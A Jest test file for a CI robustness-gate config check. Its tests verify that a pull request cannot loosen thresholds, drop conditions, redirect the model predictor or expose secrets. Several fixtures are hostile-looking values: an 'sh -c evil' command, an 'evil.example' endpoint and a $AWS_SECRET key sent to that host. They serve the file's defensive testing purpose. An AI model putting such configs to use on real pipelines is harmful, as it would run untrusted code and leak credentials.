import { describe, expect, it } from '@jest/globals';
import { type BaseConfig, holdConfig } from '../../src/config/integrity.ts';
import { parseConfig } from '../../src/config/load.ts';
import type { GateConfig } from '../../src/config/schema.ts';
import { suiteConditions } from '../../src/perturb/suite.ts';

const config = (more = '', suite = '[gaussian_noise, rotation]', name = 'site'): GateConfig =>
  parseConfig(
    `version: 1
name: ${name}
dataset: {format: yolo, path: data.yaml}
predictor: {kind: onnx, model: m.onnx}
suite: {perturbations: ${suite}, severities: [1, 3]}
${more}
`,
    'robustness.yml',
  );
const main = (written: GateConfig): BaseConfig => ({
  kind: 'found',
  description: 'the base commit abc1234',
  config: written,
});
const ids = ({ suite }: GateConfig): string[] => suiteConditions(suite).map(({ id }) => id);

describe('a pull request’s config', () => {
  it('counts as it is where it changes nothing', () => {
    expect(holdConfig(config(), main(config())).changes).toEqual([]);
  });

  it('cannot loosen the gate, and the comment says what it tried', () => {
    const held = holdConfig(config('gate: {maxDrop: 30}'), main(config()));
    expect(held.config.gate.maxDrop).toBe(1);
    expect(held.changes).toEqual([
      'This pull request changes the gate: maxDrop 1 → 30; the stricter of both, 1, was applied.',
    ]);
  });

  it('cannot leave conditions out', () => {
    const held = holdConfig(config('', '[rotation]'), main(config()));
    expect(ids(held.config)).toEqual(ids(config()));
    expect(held.changes[0]).toMatch(/leaves out .*gaussian_noise\/1, gaussian_noise\/3\.$/);
  });

  it('may add conditions', () => {
    const held = holdConfig(config('', '[gaussian_noise, rotation, fog]'), main(config()));
    expect(ids(held.config)).toContain('fog/3');
    expect(held.changes).toEqual(['This pull request adds conditions: fog/1, fog/3.']);
  });

  it('cannot hide from its baseline by another name, nor choose its own groups or seed', () => {
    const head: GateConfig = {
      ...config('', undefined, 'fresh'),
      dataset: { ...config().dataset, group: '^(.)' },
      suite: { ...config().suite, seed: 7 },
      predictor: { ...config().predictor, confidence: 0.99 },
    };
    const held = holdConfig(head, main(config()));
    expect(held.config).toEqual(config());
    expect(held.changes).toHaveLength(4);
  });

  it('promotes what it is there to promote', () => {
    const head = { ...config(), predictor: { ...config().predictor, model: 'new.onnx' } };
    expect(holdConfig(head, main(config())).config.predictor).toMatchObject({ model: 'new.onnx' });
  });

  it.each([
    [
      'command',
      '{kind: command, command: [python, a.py]}',
      '{kind: command, command: [sh, -c, evil]}',
    ],
    ['module', '{kind: module, module: a.mjs}', '{kind: module, module: evil.mjs}'],
    [
      'http',
      '{kind: http, url: https://a.example/p, headers: {X: $A}, version: a}',
      '{kind: http, url: https://evil.example/p, headers: {X: $B}, version: a}',
    ],
    [
      'roboflow',
      '{kind: roboflow, model: a/1}',
      '{kind: roboflow, model: a/1, url: https://evil.example, apiKey: $AWS_SECRET, maxRequests: 999999}',
    ],
  ])('cannot choose what the predictor %s runs or whom it asks', (_, base, head) => {
    const withPredictor = (text: string): GateConfig => {
      const file = `version: 1\ndataset: {format: yolo, path: d.yaml}\npredictor: ${text}\n`;
      return parseConfig(file, 'robustness.yml');
    };
    const held = holdConfig(withPredictor(head), main(withPredictor(base)));
    expect(held.config).toEqual(withPredictor(base));
    expect(held.changes[0]).toMatch(/main’s counts until it is merged/);
  });

  it('is told without what may be a key that somebody wrote into it', () => {
    const withPredictor = (url: string, key: string): GateConfig =>
      parseConfig(
        `version: 1
dataset: {format: yolo, path: d.yaml}
predictor: {kind: http, url: "${url}", headers: {X-Key: "${key}"}, body: {kind: json, fields: {token: "${key}"}}, version: a}
`,
        'robustness.yml',
      );
    const base = withPredictor('https://me:one@a.example/p?key=two', 'three');
    const head = withPredictor('https://me:four@a.example/p?key=five', 'six');
    expect(holdConfig(head, main(base)).changes).toEqual([
      'This pull request changes predictor.url: https://a.example/p → https://a.example/p (the part that differs is not shown); main’s counts until it is merged.',
      'This pull request changes predictor.headers: X-Key → X-Key (the part that differs is not shown); main’s counts until it is merged.',
      'This pull request changes predictor.body: {"kind":"json","image":"/image","fields":["token"]} → {"kind":"json","image":"/image","fields":["token"]} (the part that differs is not shown); main’s counts until it is merged.',
    ]);
  });

  it('cannot send another secret away with the data set', () => {
    const text = `version: 1
dataset: {format: roboflow, workspace: w, project: p, version: 2, apiKey: $AWS_SECRET}
predictor: {kind: onnx, model: m.onnx}
suite: {perturbations: [gaussian_noise, rotation], severities: [1, 3]}
`;
    const head = { ...parseConfig(text, 'robustness.yml'), name: 'site' };
    expect(holdConfig(head, main(config())).config.dataset).toMatchObject({
      version: 2,
      apiKey: '$ROBOFLOW_API_KEY',
    });
  });

  it('counts alone where the base has none, which is said', () => {
    const held = holdConfig(
      config("gate: {maxDrop: 30, waivers: [{node: noise, reason: mine, until: '2030-01-01'}]}"),
      {
        kind: 'absent',
        description: 'the base commit abc1234',
      },
    );
    expect(held.config.gate).toMatchObject({ maxDrop: 30, waivers: [] });
    expect(held.changes).toEqual([
      'There is no config at the base commit abc1234: this pull request’s own counts, but for its waivers.',
    ]);
  });
});
